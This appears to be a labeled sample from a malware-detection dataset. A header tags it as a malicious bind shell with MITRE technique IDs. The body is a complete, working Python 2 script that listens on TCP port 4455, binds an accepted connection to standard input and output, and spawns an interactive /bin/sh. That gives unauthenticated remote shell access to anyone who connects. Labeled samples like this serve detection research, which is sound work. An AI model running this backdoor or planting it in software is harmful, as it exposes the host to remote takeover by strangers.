# label: malicious family=bindshell techniques=T1059.004,T1095,T1571 lines=4,8-9
import socket, os
s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
s.bind(('', 4455))
s.listen(1)
c, a = s.accept()
print "conn from", a
os.dup2(c.fileno(), 0); os.dup2(c.fileno(), 1); os.dup2(c.fileno(), 2)
os.execl("/bin/sh", "sh", "-i")
